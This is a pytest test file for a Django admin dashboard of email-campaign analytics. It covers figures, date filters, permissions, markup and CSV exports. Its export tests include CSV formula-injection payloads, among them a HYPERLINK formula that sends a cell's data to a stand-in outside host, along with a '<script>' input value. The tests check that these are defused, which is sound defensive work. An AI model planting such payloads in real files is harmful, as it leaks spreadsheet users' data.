"""The dashboard: its numbers are the API's, its files are safe, its page is for those who may."""

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qsl
from uuid import UUID

import pytest
from django.contrib.admin import AdminSite
from django.contrib.auth.models import Permission
from django.test import Client, override_settings
from django.urls import path

from analytics.dashboard.addresses import dashboard_url
from analytics.dashboard.page import DashboardAdmin
from analytics.dashboard.workspaces import Offered
from analytics.models import Dashboard
from apikeys import crypto
from campaigns.models import Campaign, CampaignStatus, Workspace
from tests.analytics.dashboards import (
    API,
    PAGE,
    Page,
    drawn_interval,
    launched,
    number,
    rate,
    read_campaigns,
    read_timeline,
    record,
)
from tests.factories import APIKeyFactory, CampaignFactory, WorkspaceFactory

own_site = AdminSite(name="office")
own_site.register(Dashboard, DashboardAdmin)
urlpatterns = [path("office/", own_site.urls)]

pytestmark = pytest.mark.django_db


@pytest.fixture
def workspace():
    return WorkspaceFactory(name="Acme & Söhne")


@pytest.fixture
def staff(django_user_model):
    """Staff who may view campaigns and workspaces, and nothing else."""
    user = django_user_model.objects.create_user("staff", password="x", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(codename__in=["view_campaign", "view_workspace"])
    )
    return user


@pytest.fixture
def client(staff):
    client = Client()
    client.force_login(staff)
    return client


@pytest.fixture
def show(client, workspace):
    def ask(**parameters):
        response = client.get(PAGE, {"workspace": workspace.pk, **parameters})
        assert response.status_code == 200
        return Page(response.content.decode())

    return ask


@pytest.fixture
def api(workspace):
    key = crypto.generate()
    APIKeyFactory(workspace=workspace, key=key)
    client = Client(headers={"X-API-Key": key})
    return lambda url, **parameters: client.get(url, parameters).json()


@pytest.fixture
def year(workspace):
    """Mail of two campaigns, a draft, and another workspace's."""
    first = launched(workspace, "Q1 <Outreach>", "2024-01-15")
    second = launched(workspace, "Spring", "2024-03-01", "ACTIVE")
    CampaignFactory(workspace=workspace, name="Draft", status="DRAFT")
    record(first, "2024-01-15", sent=1120, opened=41, replied=9, bounced=1)
    record(first, "2024-01-16", sent=85, opened=30, replied=7)
    record(first, "2024-01-18", opened=5)
    record(second, "2024-03-01", sent=3, opened=2, bounced=1)
    record(second, "2024-03-03", sent=1, opened=4)
    record(launched(WorkspaceFactory(), "Foreign", "2024-01-15"), "2024-01-15", sent=7, opened=7)


def read_kpis(page):
    kpis = page.kpis
    return {
        "total_campaigns": number(kpis["Campaigns"]),
        "total_sends": number(kpis["Sent"]),
        "avg_open_rate": rate(kpis["Open rate"]),
        "avg_reply_rate": rate(kpis["Reply rate"]),
        "avg_bounce_rate": rate(kpis["Bounce rate"]),
    }


CHOICES = [
    {},
    {"status": "COMPLETED"},
    {"from_date": "2024-01-01", "to_date": "2024-03-31"},
    {"from_date": "2024-01-16", "to_date": "2024-03-31", "status": "ACTIVE"},
    {"to_date": "2024-01-20"},
    {"from_date": "2024-01-15", "to_date": "2024-01-15"},
    {"from_date": "2015-01-01", "to_date": "2024-12-31"},
    {"from_date": "1999-01-01", "to_date": "1999-03-31"},
    {"from_date": "0001-01-01", "to_date": "0001-01-09"},
]


def _launches(rows):
    campaigns = Campaign.objects.in_bulk([row["campaign_id"] for row in rows])
    launches = [campaigns[UUID(row["campaign_id"])].launched_at for row in rows]
    return ["" if launch is None else launch.date().isoformat() for launch in launches]


def _listed(api, choice):
    """The API's campaigns for what the dashboard is asked: its dates are those of the activity."""
    days = api(f"{API}/timeline", **choice)
    window = {"activity_from": days["from_date"], "activity_to": days["to_date"]}
    status = {name: value for name, value in choice.items() if name == "status"}
    return api(API, **status, **window)


@pytest.mark.usefixtures("year")
class TestFigures:
    @pytest.mark.parametrize("choice", CHOICES)
    def test_they_are_those_of_the_api(self, show, api, choice):
        page = show(**choice)
        days = api(f"{API}/timeline", **choice, interval=drawn_interval(page))
        expected = _listed(api, choice)
        for row in expected["campaigns"]:
            del row["campaign_id"]
            row["created_at"] = row["created_at"][:10]
        assert read_kpis(page) == expected["workspace_kpis"]
        assert read_campaigns(page) == expected["campaigns"]
        assert read_timeline(page) == days["timeline"]
        for kind in ("sent", "opened", "replied", "bounced"):
            assert sum(row[f"total_{kind}"] for row in expected["campaigns"]) == sum(
                day[kind] for day in days["timeline"]
            )

    @pytest.mark.parametrize(
        "launched",
        [
            {"launched_from": "2024-01-15", "launched_to": "2024-02-15"},
            {"launched_to": "2024-01-20"},
        ],
    )
    def test_days_of_the_launch_choose_campaigns_and_the_others_count(self, show, api, launched):
        window = {"from_date": "2024-01-01", "to_date": "2024-12-31"}
        activity = {"activity_from": "2024-01-01", "activity_to": "2024-12-31"}
        named = {f"{name.removeprefix('launched_')}_date": day for name, day in launched.items()}
        page = show(**window, **launched)
        expected = api(API, **named, **activity)
        assert read_kpis(page) == expected["workspace_kpis"]
        assert [row["campaign_name"] for row in read_campaigns(page)] == [
            row["campaign_name"] for row in expected["campaigns"]
        ]
        sent = sum(day["sent"] for day in read_timeline(page))
        assert sent == expected["workspace_kpis"]["total_sends"]

    def test_a_form_sends_empty_fields(self, show):
        empty = show(status="", from_date="", to_date="")
        assert empty.tables == show().tables
        assert empty.kpis == show().kpis

    def test_the_page_says_what_the_dates_mean(self, show):
        page = show(status="COMPLETED", from_date="2024-01-01", to_date="2024-03-31")
        of_campaigns = (
            "Campaigns with the status Completed, launched or not, "
            "with what happened from Jan. 1, 2024 to March 31, 2024."
        )
        assert of_campaigns in page.texts["p"]
        compared = "Changes are against the 91 days before, Oct. 2, 2023 to Dec. 31, 2023."
        assert f"{of_campaigns} {compared}" in page.texts["p"]

    def test_the_page_says_what_a_point_is(self, show):
        page = show(from_date="2024-01-01", to_date="2024-03-31")
        assert [text for text in page.texts["p"] if text.startswith("What happened")] == [
            "What happened from Jan. 1, 2024 to March 31, 2024, 91 days in UTC. "
            "A point of the messages is one day. "
            "A point of the rates is one week, Monday to Sunday: what was opened, replied to or "
            "bounced in it over what was sent in it. "
            "An open counts on the day it happened, whenever its mail was sent, so a rate may "
            "exceed 100%; where nothing was sent there is none to draw. "
            "Rates of fewer than 60 messages sent are grey. "
            "The faint lines are the period before, of the same length."
        ]

    @pytest.mark.parametrize(
        ("choice", "titles", "told"),
        [
            ({"interval": "month"}, ["Messages by month", "Rates by month"], "is one month"),
            ({"interval": "week"}, ["Messages by week", "Rates by week"], "is one week"),
            (
                {"interval": "day"},
                ["Messages by day", "Rates of seven days up to each day"],
                "of the rates is the seven days up to its day",
            ),
            (
                {"interval": "day", "from_date": "2020-01-01"},
                ["Messages by week", "Rates by week"],
                "of the length that you chose there would be too many to draw",
            ),
        ],
    )
    def test_a_point_is_what_the_reader_wants(self, show, choice, titles, told):
        window = {"from_date": "2024-01-01", "to_date": "2024-03-31"}
        page = show(**window | choice)
        assert page.texts["h3"] == titles
        assert any(told in text for text in page.texts["p"])

    @pytest.mark.parametrize(
        ("choice", "text"),
        [
            ({}, "All campaigns, launched or not,"),
            (
                {"launched_from": "2024-01-01"},
                "All campaigns, launched on Jan. 1, 2024 (UTC) or later,",
            ),
            (
                {"launched_to": "2024-01-01"},
                "All campaigns, launched on Jan. 1, 2024 (UTC) or earlier,",
            ),
            (
                {"launched_from": "2024-01-01", "launched_to": "2024-01-02"},
                "All campaigns, launched from Jan. 1, 2024 to Jan. 2, 2024 (UTC),",
            ),
        ],
    )
    def test_the_page_says_which_campaigns_it_has(self, show, choice, text):
        window = {"from_date": "2024-01-01", "to_date": "2024-01-31"}
        counted = "with what happened from Jan. 1, 2024 to Jan. 31, 2024."
        texts = show(**window, **choice).texts["p"]
        assert len([each for each in texts if each.startswith(f"{text} {counted}")]) == 2

    def test_every_day_is_one_of_the_workspaces_time_zone(self, show, workspace):
        workspace.time_zone = "Pacific/Kiritimati"  # 14 hours ahead of UTC
        workspace.save()
        CampaignFactory(
            workspace=workspace,
            name="Late",
            created_at=datetime(2031, 5, 1, 12, tzinfo=UTC),
            launched_at=datetime(2031, 5, 1, 12, tzinfo=UTC),
        )
        page = show(launched_from="2031-05-02", launched_to="2031-05-02")
        (row,) = read_campaigns(page)
        assert (row["campaign_name"], row["created_at"]) == ("Late", "2031-05-02")
        assert read_timeline(page)[-1]["date"] == workspace.today().isoformat()
        assert any("May 2, 2031 (Pacific/Kiritimati)" in text for text in page.texts["p"])
        assert any("90 days in Pacific/Kiritimati" in text for text in page.texts["p"])

    def test_the_first_workspace_is_shown_unless_one_is_chosen(self, client, workspace):
        WorkspaceFactory(name="Aardvark")
        assert "Aardvark" in Page(client.get(PAGE).content.decode()).texts["h2"]
        chosen = Page(client.get(PAGE, {"workspace": workspace.pk}).content.decode())
        assert "Acme & Söhne" in chosen.texts["h2"]
        selected = [attrs for tag, attrs in chosen.tags if tag == "option" and "selected" in attrs]
        assert [attrs["value"] for attrs in selected] == [str(workspace.pk), "", ""]

    @override_settings(
        LANGUAGE_CODE="de",
        USE_THOUSAND_SEPARATOR=True,
        MAILMETRICS={"MAX_TIMELINE_DAYS": 20_000},
    )
    def test_numbers_are_in_the_readers_language_and_the_drawing_is_not(self, client, workspace):
        window = {"from_date": "1983-01-01", "to_date": "2024-12-31"}
        html = client.get(PAGE, {"workspace": workspace.pk, **window}).content.decode()
        kpis = html[html.index("<dl") : html.index("</dl>")]
        assert "<dd>1.209</dd>" in kpis
        assert "<dd>6,78\N{NO-BREAK SPACE}%</dd>" in kpis
        assert 'viewBox="0 0 1008 240"' in html
        assert html.count('<input type="radio"') == 2 * 504
        assert not re.search(r'(x|y|y1|y2|width|height|d)="[^"]*\d,\d', html)


class TestNothingToShow:
    def test_an_empty_workspace(self, show, workspace):
        page = show()
        assert page.kpis == {
            "Campaigns": "0",
            "Sent": "0",
            "Open rate": "–",
            "Reply rate": "–",
            "Bounce rate": "–",
        }
        assert len(read_timeline(page)) == 90
        assert "The workspace has no campaigns." in page.texts["p"]
        assert "0–0" not in " ".join(page.texts["p"])
        legend = [text for text in page.texts["li"] if "rate" in text]
        assert legend == ["Open rate –", "Reply rate –", "Bounce rate –"]
        assert "Nothing happened in this time." in page.texts["p"]

    def test_no_workspace(self, client):
        page = Page(client.get(PAGE).content.decode())
        assert "There is no workspace yet." in page.texts["p"]
        assert page.tables.get("mm-timeline-table") is None
        answer = client.get(f"{PAGE}timeline.csv")
        assert (answer.status_code, answer.content) == (400, b"workspace: There is none.\n")


BAD_CHOICES = [
    {"status": "nope"},
    {"from_date": "2024-02-31"},
    {"to_date": "20240101"},
    {"from_date": "2024-02-02", "to_date": "2024-02-01"},
    {"from_date": "2000-01-01", "to_date": "2024-02-01"},
    {"from_date": "9999-01-01"},
    {"to_date": "0001-01-02"},
    {"from_date": ["2024-01-01", "2024-01-02"]},
    {"status": "<script>", "from_date": "x", "to_date": "y"},
]


class TestBadChoices:
    @pytest.mark.parametrize("choice", BAD_CHOICES)
    def test_the_apis_words_beside_the_field_and_no_numbers(self, show, api, choice):
        window = {name: days for name, days in choice.items() if name != "status"}
        answers = [api(f"{API}/timeline", **window), api(API, **choice)]
        mistakes = [each for body in answers for each in body.get("detail", ())]
        expected = {each["loc"][1]: [each["msg"]] for each in mistakes}
        page = show(**choice)
        assert expected
        told = [
            expected[name][0] for name in ("from_date", "to_date", "status") if name in expected
        ]
        assert page.errors == told
        assert "dd" not in page.texts
        assert page.tables.get("mm-timeline-table") is None

    @pytest.mark.parametrize("key", ["0", "x", "1.0", "-1", "9" * 40, "\x00"])
    def test_a_workspace_that_is_none(self, show, key):
        page = show(workspace=key)
        assert page.errors == [f"{key!r:.60} is not a workspace."]
        assert "dd" not in page.texts

    def test_days_of_the_launch_that_are_none(self, show):
        page = show(launched_from="2024-02-02", launched_to="2024-02-01")
        assert page.errors == ["2024-02-02 is after the last day, 2024-02-01."]
        assert show(launched_to="x").errors == ["Enter a date as YYYY-MM-DD, not 'x'."]

    def test_a_parameter_that_there_is_not(self, show):
        assert show(pages="2").texts["p"] == [
            "There are no numbers for this choice. "
            "pages: There is no such parameter; the parameters are "
            "workspace, from_date, to_date, status, launched_from, launched_to, interval."
        ]

    def test_what_is_no_date_is_not_put_into_a_date_field(self, show):
        page = show(from_date="2024-02-31", to_date="2024-02-28")
        fields = {attrs.get("name"): attrs for tag, attrs in page.tags if tag == "input"}
        assert "value" not in fields["from_date"]
        assert fields["to_date"]["value"] == "2024-02-28"

    @pytest.mark.parametrize("file", ["campaigns.csv", "timeline.csv"])
    def test_a_file_is_refused(self, client, workspace, file):
        answer = client.get(PAGE + file, {"workspace": workspace.pk, "from_date": "x"})
        assert answer.status_code == 400
        assert answer["Content-Type"] == "text/plain; charset=utf-8"
        assert answer.content.decode() == "from_date: Enter a date as YYYY-MM-DD, not 'x'.\n"


URLS = [PAGE, f"{PAGE}campaigns.csv", f"{PAGE}timeline.csv", f"{PAGE}workspaces/"]


class TestWhoMaySee:
    @pytest.mark.parametrize("url", URLS)
    @pytest.mark.parametrize(
        ("permissions", "status"),
        [
            ("view_campaign view_workspace", 200),
            ("change_campaign change_workspace", 200),
            ("view_campaign", 403),
            ("view_workspace", 403),
            ("", 403),
        ],
    )
    @pytest.mark.usefixtures("workspace")
    def test_staff_who_may_view_both(self, client, staff, url, permissions, status):
        staff.user_permissions.set(Permission.objects.filter(codename__in=permissions.split()))
        assert client.get(url).status_code == status
        assert (PAGE in client.get("/admin/").content.decode()) == (status == 200)

    @pytest.mark.parametrize("url", URLS)
    def test_others_are_sent_to_log_in(self, django_user_model, url):
        user = django_user_model.objects.create_user("customer", is_superuser=True)
        client = Client()
        for _ in range(2):
            answer = client.get(url)
            assert (answer.status_code, answer["Location"]) == (302, f"/admin/login/?next={url}")
            client.force_login(user)

    @pytest.mark.parametrize("url", URLS)
    def test_get_and_head_alone(self, client, workspace, url):
        assert client.head(url).status_code == 200
        for method in ("post", "put", "patch", "delete"):
            assert getattr(client, method)(url).status_code == 405

    @pytest.mark.parametrize("url", URLS)
    def test_no_cache_keeps_it(self, client, workspace, url):
        assert "no-store" in client.get(url)["Cache-Control"]

    @pytest.mark.parametrize("campaigns", [0, 30])
    def test_a_fixed_number_of_queries(self, show, workspace, campaigns, django_assert_num_queries):
        for n in range(campaigns):
            record(launched(workspace, f"No. {n}", "2024-01-15"), "2024-01-16", sent=2, opened=1)
        # The session, the user, two for the permissions, the workspaces, and one for each report.
        with django_assert_num_queries(7):
            show(from_date="2024-01-01", to_date="2024-02-01")


class TestPeriods:
    def links(self, page):
        """The queries of the presets, as parameters, and which is the present one."""
        links = [attrs for tag, attrs in page.tags if "from_date" in attrs.get("href", "")]
        links = [attrs for attrs in links if re.fullmatch(r"\?[^#]*", attrs["href"])]
        queries = [dict(parse_qsl(attrs["href"][1:])) for attrs in links]
        return queries, ["aria-current" in attrs for attrs in links]

    def test_a_preset_changes_the_dates_and_nothing_else(self, show, workspace):
        choice = {"status": "ACTIVE", "interval": "week", "from_date": "2024-01-01"}
        queries, current = self.links(show(**choice))
        today = workspace.today()
        last_of_previous = today.replace(day=1) - timedelta(1)
        assert [(query["from_date"], query["to_date"]) for query in queries[:5]] == [
            (f"{today - timedelta(6)}", f"{today}"),
            (f"{today - timedelta(29)}", f"{today}"),
            (f"{today - timedelta(89)}", f"{today}"),
            (f"{today.replace(day=1)}", f"{today}"),
            (f"{last_of_previous.replace(day=1)}", f"{last_of_previous}"),
        ]
        for query in queries:
            del query["from_date"], query["to_date"]
            assert query == {
                "workspace": str(workspace.pk),
                "status": "ACTIVE",
                "interval": "week",
            }
        assert not any(current)

    def test_the_present_one_is_marked(self, show):
        queries, current = self.links(show())
        assert current == [False, False, True, False, False, False]
        for place, query in enumerate(queries):
            assert self.links(show(**query))[1][place]

    def test_a_reset_keeps_the_workspace_alone(self, show, workspace):
        page = show(status="ACTIVE", from_date="2024-01-01")
        assert {"href": f"?workspace={workspace.pk}"} in [attrs for _, attrs in page.tags]


class TestManyWorkspaces:
    @pytest.fixture(autouse=True)
    def many(self, workspace):
        zones = ["UTC", "Europe/Berlin", "America/New_York", "Asia/Kolkata", "Asia/Tokyo"]
        Workspace.objects.bulk_create(
            Workspace(name=f"No. {n:04}", time_zone=zones[n % 5]) for n in range(5000)
        )

    def test_the_page_lists_none_of_them(self, show):
        last = Workspace.objects.get(name="No. 4999")
        page = show(workspace=last.pk)
        assert page.texts["h2"][0] == "No. 4999"
        named = [attrs for tag, attrs in page.tags if tag == "select"]
        select = [attrs for attrs in named if attrs.get("name") == "workspace"]
        assert [attrs["data-ajax--url"] for attrs in select] == [f"{PAGE}workspaces/"]
        options = [attrs["value"] for tag, attrs in page.tags if tag == "option"]
        assert options[0] == str(last.pk)
        assert len(options) == 1 + len(["", *CampaignStatus]) + len(["", "day", "week", "month"])
        assert any("days in Asia/Tokyo" in text for text in page.texts["p"])

    def test_one_more_query_finds_one_that_a_list_would_not_hold(
        self, show, django_assert_num_queries
    ):
        last = Workspace.objects.get(name="No. 4999")
        with django_assert_num_queries(8):
            show(workspace=last.pk)

    @pytest.mark.parametrize("key", ["0", "01", "x", "-1", "9" * 18, "9" * 40, "\x00", "²"])
    def test_a_workspace_that_is_none(self, show, key):
        assert show(workspace=key).errors == [f"{key!r:.60} is not a workspace."]

    def found(self, client, **parameters):
        answer = client.get(f"{PAGE}workspaces/", parameters).json()
        return [each["text"] for each in answer["results"]], answer["pagination"]["more"]

    def test_a_search_finds_them_by_a_part_of_the_name_page_by_page(self, client, workspace):
        assert self.found(client, term="ACME") == (["Acme & Söhne"], False)
        assert self.found(client, term="no. 499", page="1") == (
            [f"No. 499{n}" for n in range(10)],
            False,
        )
        assert self.found(client, term="No. 0", page="50") == (
            [f"No. 0{n}" for n in range(980, 1000)],
            False,
        )
        assert self.found(client, term="No. 0", page="49")[1]
        assert len(self.found(client)[0]) == 20

    @pytest.mark.parametrize("page", ["0", "x", "-1", "", "9" * 30])
    def test_a_page_that_is_none_is_the_first(self, client, page):
        assert self.found(client, page=page)[0][0] == "Acme & Söhne"

    def test_what_no_name_can_hold_finds_nothing(self, client):
        assert self.found(client, term="\x00") == ([], False)
        assert self.found(client, page="9" * 18) == ([], False)


class TestAdminSites:
    def test_it_is_reached_from_the_index(self, client):
        html = client.get("/admin/").content.decode()
        assert f'<a href="{PAGE}">Dashboard</a>' in html
        assert f"{PAGE}add/" not in html

    @pytest.mark.parametrize("page", ["", "{pk}/change/"])
    def test_it_is_reached_from_a_workspace(self, client, staff, workspace, page):
        url = "/admin/mailmetrics_campaigns/workspace/" + page.format(pk=workspace.pk)
        link = f'<a href="{PAGE}?workspace={workspace.pk}">Dashboard</a>'
        assert link in client.get(url).content.decode()
        staff.user_permissions.remove(Permission.objects.get(codename="view_campaign"))
        assert "Dashboard" not in client.get(url).content.decode()

    @override_settings(ROOT_URLCONF=__name__)
    def test_a_site_of_the_hosts_own(self, client, workspace):
        url = dashboard_url(site=own_site, workspace_id=workspace.pk)
        assert url == f"/office/mailmetrics_analytics/dashboard/?workspace={workspace.pk}"
        html = client.get(url).content.decode()
        assert 'href="/admin/' not in html
        assert (
            f"/office/mailmetrics_analytics/dashboard/timeline.csv?workspace={workspace.pk}" in html
        )

    def test_a_hosts_subclass_offers_fewer_workspaces(self, rf, staff, workspace):
        WorkspaceFactory(name="Hidden")

        class Own(DashboardAdmin):
            def get_queryset(self, request):
                return super().get_queryset(request).exclude(name="Hidden")

        request = rf.get("/")
        request.user = staff
        admin = Own(Dashboard, own_site)
        answer = admin.changelist_view(request)
        assert answer.context_data["asked"].workspaces.first == [
            Offered(workspace.pk, "Acme & Söhne", "UTC")
        ]
        found = json.loads(admin.workspaces(request).content)
        assert found["results"] == [{"id": str(workspace.pk), "text": "Acme & Söhne"}]

    def test_it_has_no_permission_of_its_own(self):
        assert not Permission.objects.filter(content_type__model="dashboard").exists()


@pytest.mark.usefixtures("year")
class TestMarkup:
    @pytest.mark.parametrize("choice", CHOICES)
    def test_nothing_is_inline(self, show, choice):
        page = show(**choice)
        assert "style" not in {tag for tag, _ in page.tags}
        assert not [name for name in page.attributes if name == "style" or name.startswith("on")]
        assert all(attrs.get("src") for tag, attrs in page.tags if tag == "script")

    def test_ids_are_unique_and_references_lead_to_them(self, show):
        attributes = [attrs for _, attrs in show().tags]
        ids = [attrs["id"] for attrs in attributes if "id" in attrs]
        assert len(ids) == len(set(ids))
        for attrs in attributes:
            for name in ("aria-labelledby", "aria-describedby", "for"):
                assert set(attrs.get(name, "").split()) <= set(ids)

    def test_each_point_can_be_read(self, show):
        page = show(from_date="2024-01-15", to_date="2024-01-16")
        assert page.texts["h3"] == ["Messages by day", "Rates of seven days up to each day"]
        assert page.texts["readout"] == [
            "Mon 15 Jan 2024: "
            "1,120 sent · 41 opened (3.66%) · 9 replied (0.80%) · 1 bounced (0.09%)",
            "Tue 16 Jan 2024: 85 sent · 30 opened (35.29%) · 7 replied (8.24%) · 0 bounced (0.00%)",
            "Tue 9 Jan 2024 to Mon 15 Jan 2024: "
            "1,120 sent · 41 opened (3.66%) · 9 replied (0.80%) · 1 bounced (0.09%)",
            "Wed 10 Jan 2024 to Tue 16 Jan 2024: "
            "1,205 sent · 71 opened (5.89%) · 16 replied (1.33%) · 1 bounced (0.08%)",
        ]

    def test_ten_years_are_one_light_page(self, show):
        page = show(from_date="2015-01-01", to_date="2024-12-31")
        assert len(page.texts["readout"]) == 2 * 120
        assert len(read_timeline(page)) == 120
        assert len(page.tags) < 2500
        for told in (
            "A point of the messages is one month, as is a row of the table;",
            "Changes are against the 3,653 days before,",
            ", 3,653 days in UTC.",
        ):
            assert any(told in text for text in page.texts["p"])


def content(response):
    assert response.streaming
    return b"".join(response.streaming_content)


class TestFiles:
    def test_the_campaigns(self, client, workspace):
        campaign = CampaignFactory(
            id=UUID("550e8400-e29b-41d4-a716-446655440000"),
            workspace=workspace,
            name='Été, "Q1"',
            status="COMPLETED",
            total_leads=1500,
            launched_at=datetime(2024, 1, 15, tzinfo=UTC),
            created_at=datetime(2024, 1, 15, 10, tzinfo=UTC),
        )
        record(campaign, "2024-01-16", sent=1120, opened=41, replied=9, bounced=1)
        with override_settings(LANGUAGE_CODE="de", USE_THOUSAND_SEPARATOR=True):
            window = {"from_date": "2024-01-01", "to_date": "2024-01-31"}
            answer = client.get(f"{PAGE}campaigns.csv", {"status": "COMPLETED", **window})
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == 'attachment; filename="acme-sohne-campaigns.csv"'
        assert content(answer).decode() == (
            '\ufeff"campaign_name","status","total_leads","total_sent","total_opened",'
            '"total_replied","total_bounced","open_rate","reply_rate","bounce_rate","created_at",'
            '"launched_at","campaign_id"\r\n'
            '"Été, ""Q1""","COMPLETED",1500,1120,41,9,1,0.0366,0.008,0.0009,'
            '"2024-01-15T10:00:00Z","2024-01-15T00:00:00Z","550e8400-e29b-41d4-a716-446655440000"\r\n'
        )

    @pytest.mark.usefixtures("year")
    def test_the_timeline(self, client, workspace):
        answer = client.get(
            f"{PAGE}timeline.csv",
            {
                "workspace": workspace.pk,
                "status": "COMPLETED",
                "from_date": "2024-01-15",
                "to_date": "2024-01-18",
            },
        )
        assert answer["Content-Type"] == "text/csv; charset=utf-8"
        assert answer["Content-Disposition"] == (
            'attachment; filename="acme-sohne-timeline-2024-01-15-2024-01-18.csv"'
        )
        assert content(answer).decode() == (
            '\ufeff"date","sent","opened","replied","bounced",'
            '"open_rate","reply_rate","bounce_rate"\r\n'
            '"2024-01-15",1120,41,9,1,0.0366,0.008,0.0009\r\n'
            '"2024-01-16",85,30,7,0,0.3529,0.0824,0.0\r\n'
            '"2024-01-17",0,0,0,0,0.0,0.0,0.0\r\n'
            '"2024-01-18",0,5,0,0,0.0,0.0,0.0\r\n'
        )

    @pytest.mark.usefixtures("year")
    @pytest.mark.parametrize("choice", CHOICES)
    def test_the_links_lead_to_what_the_page_shows(self, show, client, api, choice):
        page = show(**choice)
        links = [attrs["href"] for tag, attrs in page.tags if ".csv" in attrs.get("href", "")]
        timeline, campaigns = (
            list(csv.DictReader(io.StringIO(content(client.get(link)).decode("utf-8-sig"))))
            for link in links
        )
        expected = _listed(api, choice)["campaigns"]
        assert [row.pop("launched_at")[:10] for row in campaigns] == _launches(expected)
        assert campaigns == [{key: str(row[key]) for key in row} for row in expected]
        days = api(f"{API}/timeline", **choice)["timeline"]
        assert timeline == [{key: str(day[key]) for key in day} for day in days]
        shown = sum(row["sent"] for row in read_timeline(page))
        assert shown == sum(int(day["sent"]) for day in timeline)

    @pytest.mark.parametrize(
        "name",
        [
            '=HYPERLINK("http://example.com/?"&A2,"click")',
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\uff1d1",
            "\uff0b1",
            "\uff0d1",
            "\uff201",
        ],
    )
    def test_a_name_that_would_be_a_formula_is_text(self, client, workspace, name):
        CampaignFactory(workspace=workspace, name=name)
        text = content(client.get(f"{PAGE}campaigns.csv")).decode()
        assert text.partition("\r\n")[2].startswith("\"'" + name.replace('"', '""') + '",')

    @pytest.mark.parametrize("name", ["Q1 = Q2", "a\r\n=1", "x;=1", 'x";=1', "'=1", " =1"])
    def test_any_other_name_is_as_it_is(self, client, workspace, name):
        CampaignFactory(workspace=workspace, name=name)
        text = content(client.get(f"{PAGE}campaigns.csv")).decode()
        # First in its line and quoted, it is one cell also where semicolons part the cells.
        assert text.partition("\r\n")[2].startswith('"' + name.replace('"', '""') + '",')
        for delimiter in ",;\t":
            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
            assert len(rows) == 2
            assert rows[1][0].startswith(name)

    def test_a_workspace_without_latin_letters_has_a_file_name(self, client, workspace):
        workspace.name = "株式会社"
        workspace.save()
        answer = client.get(f"{PAGE}campaigns.csv")
        assert answer["Content-Disposition"] == (
            f'attachment; filename="workspace-{workspace.pk}-campaigns.csv"'
        )
